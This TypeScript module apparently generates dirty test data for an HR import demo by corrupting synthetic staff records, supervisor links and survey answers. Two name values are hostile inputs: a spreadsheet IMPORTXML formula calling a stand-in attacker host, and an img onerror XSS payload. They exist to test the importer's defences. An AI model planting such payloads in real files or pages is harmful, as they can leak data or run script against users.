// Spoils the files of a clean office the way real files are spoilt, so that the demo shows the import at work.
import type { Answer } from './answers';
import type { Office, Person } from './office';
import type { ExportRow, SupervisorLine } from './write-office';

export interface OfficeFiles {
  readonly rows: readonly ExportRow[];
  readonly lines: readonly SupervisorLine[];
  readonly answers: readonly Answer[];
}

type Spoil = (row: ExportRow) => ExportRow;

const set =
  (header: string, value: string | ((text: string) => string)): Spoil =>
  (row) => ({ ...row, [header]: typeof value === 'string' ? value : value(row[header] ?? '') });

/** Each spoils the row of one of the staff, in this order. */
const spoiledRows: readonly Spoil[] = [
  set('NIP BARU', (nip) => Number(nip).toExponential(5).replace('e', 'E')),
  set('NIP BARU', (nip) => `${nip.slice(0, 15)}000`),
  set('NIP BARU', (nip) => `${nip.slice(0, 4)}1131${nip.slice(8)}`),
  set('NIP BARU', (nip) => nip.slice(0, 17)),
  set('JABATAN NAMA', ''),
  set('KEDUDUKAN HUKUM NAMA', 'Cuti Luar Tanggungan Negara'),
  set('KEDUDUKAN HUKUM NAMA', 'Pensiun'),
  set('JENIS KELAMIN', (sex) => (sex === 'M' ? 'F' : 'M')),
  set('TANGGAL LAHIR', '1970-01-01'),
  set('TANGGAL LAHIR', '31-02-1980'),
  set('NIP BARU', (nip) => `'${nip.slice(0, 8)} ${nip.slice(8, 14)} ${nip.slice(14, 15)} ${nip.slice(15)}`),
  set('EMAIL GOV', 'belum ada'),
  set('NAMA', '=IMPORTXML("http://jahat.example";"//a")'),
  set('NAMA', "ANDAI <img src=x onerror=alert(1)> 'CONTOH/NUR: [B]*?"),
  set('JABATAN NAMA', 'Dokter'),
];

/**
 * Spoils the rows of `extra` people (who are on no team, so that teams stay whole) and, beyond them, of the
 * last ordinary staff; repeats a row; and breaks the supervisor of five people: none, oneself, nobody known,
 * and two who supervise each other.
 */
export function addDirt(office: Office, extra: number, files: OfficeFiles): OfficeFiles {
  const staff = office.people
    .map((person, at) => ({ person, at }))
    .filter(({ person }) => person.habit === undefined);
  const order = [...staff.slice(-extra), ...everyThird(staff.slice(0, -extra))];
  const rows = [...files.rows];
  spoiledRows.forEach((spoil, index) => {
    const at = order[index]?.at;
    const row = at === undefined ? undefined : rows[at];
    if (at !== undefined && row !== undefined) rows[at] = spoil(row);
  });
  const repeated = rows[order[spoiledRows.length]?.at ?? 0];
  if (repeated !== undefined) rows.push(repeated);

  const whole = spreadOver(staff.slice(0, -extra), 5).map(({ person }) => person);
  const [none, own, unknown, one, other] = whole;
  const broken = new Map<string, string>();
  const breakLink = (person: Person | undefined, supervisor: string | undefined) => {
    if (person !== undefined && supervisor !== undefined) broken.set(person.nip, supervisor);
  };
  breakLink(none, '');
  breakLink(own, own?.nip);
  breakLink(unknown, '199999999999999999');
  breakLink(one, other?.nip);
  breakLink(other, one?.nip);
  const lines = files.lines.map(([nip, supervisor]): SupervisorLine => [nip, broken.get(nip) ?? supervisor]);
  const gone = new Set(
    rows.filter((row) => row['KEDUDUKAN HUKUM NAMA'] !== 'Aktif').map((row) => row['NIP BARU']),
  );
  const answers = files.answers.filter(({ ratee }) => !gone.has(ratee));
  return { rows, lines, answers: withStrays(office, answers) };
}

/** A second, changed answer, and one from an address that is not the rater's. */
function withStrays(office: Office, answers: readonly Answer[]): readonly Answer[] {
  const leader = office.people.find(({ habit }) => habit === 'lenient');
  const own = answers.find(({ role, ratee }) => role === 'diri' && ratee === leader?.nip);
  const given = answers.find(({ role, rater }) => role === 'atasan' && rater === leader?.nip);
  if (own === undefined || given === undefined) return answers;
  return [
    ...answers,
    {
      ...own,
      time: '2026-10-28 10:00:00',
      levels: own.levels.map((level, at) => (at === 0 ? (level === 5 ? 4 : 5) : level)),
    },
    { ...given, time: '2026-10-28 11:00:00', email: 'orang.lain@contoh.example' },
  ];
}

const everyThird = <T>(from: readonly T[]): readonly T[] => from.filter((_, at) => at % 3 === 0);

/** So many of them at even distances, none of the first: with teams in a row, one of each. */
const spreadOver = <T>(from: readonly T[], count: number): readonly T[] => {
  const step = Math.floor(from.length / count);
  return from.filter((_, at) => at % step === 1).slice(0, count);
};
